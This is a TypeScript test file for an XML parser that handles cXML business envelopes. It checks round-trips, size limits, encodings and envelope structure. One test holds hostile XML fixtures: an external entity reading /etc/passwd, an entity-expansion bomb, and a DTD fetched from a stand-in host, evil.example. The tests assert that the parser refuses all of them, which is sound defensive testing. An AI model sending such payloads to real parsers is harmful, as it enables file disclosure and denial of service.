import fc from 'fast-check';
import { expect, test } from 'vitest';
import { element, readEnvelope, textAt, writeDocument, writeElement, writeResponse } from '#people/cxml/rules';
import { MOST_DOCUMENT_BYTES, parseXml } from './parse-xml.ts';

const problemOf = (document: string | Uint8Array) => {
  const read = parseXml(document);
  return read.ok ? 'none' : read.problem;
};

const FACTS = { payloadId: '1@inkwell.example', now: new Date('2026-11-29T12:00:00Z'), language: 'en-US' };

test('[B2B-9] what is written comes back, whatever the texts are', () => {
  const text = fc.string({ unit: 'binary' }).map((raw) => raw.replaceAll(/\p{Cc}|\p{Cs}|[\ufffe\uffff]/gu, '').trim());
  fc.assert(
    fc.property(text, text, (inside, value) => {
      const read = parseXml(writeElement(element('a', { value }, element('b', {}, inside))));
      expect(read.ok && [read.value.attributes.get('value'), textAt(read.value, 'b')]).toEqual([value, inside]);
    }),
    { numRuns: 50 },
  );
});

test('[B2B-9] an answer names code, text and time, and is read as it was written', () => {
  const document = writeResponse(FACTS, { code: 401, detail: 'who <you> are' });
  expect(document).toContain('<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.045/cXML.dtd">');
  const read = parseXml(document);
  const envelope = read.ok ? readEnvelope(read.value) : read;
  expect(envelope).toMatchObject({
    ok: true,
    value: { kind: 'Response', payloadId: '1@inkwell.example', timestamp: '2026-11-29T12:00:00+00:00', body: null },
  });
  expect(envelope.ok && envelope.value.status).toEqual({ code: '401', text: 'Unauthorized', detail: 'who <you> are' });
});

test('[B2B-9] entities of a document are neither expanded nor fetched', () => {
  expect(problemOf('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')).toBe('DOCUMENT_DEFINES_NAMES');
  const bomb = `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${['b', 'c', 'd', 'e'].map((name) => `<!ENTITY ${name} "&a;&a;&a;">`).join('')}]><a>&e;</a>`;
  expect(problemOf(bomb)).toBe('DOCUMENT_DEFINES_NAMES');
  expect(problemOf('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>')).toBe('DOCUMENT_DEFINES_NAMES');
  expect(problemOf('<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a>&x;</a>')).toBe('DOCUMENT_BROKEN');
  expect(problemOf('<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>')).toBe('none');
});

test('[B2B-9] size, depth, elements and attributes have limits, and a refusal is quick', () => {
  const began = performance.now();
  expect(problemOf(`<a>${' '.repeat(MOST_DOCUMENT_BYTES)}</a>`)).toBe('DOCUMENT_TOO_LARGE');
  expect(problemOf('<a>'.repeat(300_000))).toBe('DOCUMENT_TOO_LARGE');
  expect(problemOf(`<a>${'<b/>'.repeat(200_000)}</a>`)).toBe('DOCUMENT_TOO_LARGE');
  expect(problemOf(`<a ${Array.from({ length: 10_000 }, (_, at) => `a${at}=""`).join(' ')}/>`)).toBe('DOCUMENT_TOO_LARGE');
  expect(performance.now() - began).toBeLessThan(5_000);
});

test.each(['', 'hello', '<a>', '<a></b>', '<a/><b/>', '<a b="1" b="2"/>', '<a>\0</a>', '<a>&#0;</a>', '<a>&nbsp;</a>', '{"a":1}'])(
  'what is no XML is refused: %j',
  (text) => {
    expect(problemOf(text)).toBe('DOCUMENT_BROKEN');
  },
);

test('the declared encoding counts; one that is unknown or wrong is refused', () => {
  const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>', 'latin1');
  const read = parseXml(latin);
  expect(read.ok && read.value.text).toBe('é');
  expect(problemOf(Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a/>'))).toBe('ENCODING_UNKNOWN');
  expect(problemOf(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe]))).toBe('ENCODING_UNKNOWN');
  const wide = parseXml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>é</a>', 'utf16le')]));
  expect(wide.ok && wide.value.text).toBe('é');
});

test('names like those of objects are names like others', () => {
  const read = parseXml('<__proto__ constructor="1" __proto__="2"><toString/></__proto__>');
  expect(read.ok && [read.value.name, read.value.attributes.get('__proto__'), read.value.children[0]?.name]).toEqual([
    '__proto__',
    '2',
    'toString',
  ]);
});

test('an envelope needs a header, and something in it', () => {
  const envelope = (xml: string) => {
    const read = parseXml(xml);
    return read.ok ? readEnvelope(read.value) : read;
  };
  expect(envelope('<html/>')).toEqual({ ok: false, problem: 'the document is html, not cXML' });
  expect(envelope('<cXML/>').ok).toBe(false);
  expect(envelope('<cXML><Request><ProfileRequest/></Request></cXML>')).toEqual({ ok: false, problem: 'cXML has no Header' });
  expect(envelope('<cXML><Header/><Request/></cXML>')).toEqual({ ok: false, problem: 'Request is empty' });
  expect(envelope(writeDocument(FACTS, element('Header'), element('Request', {}, element('ProfileRequest')))).ok).toBe(true);
});
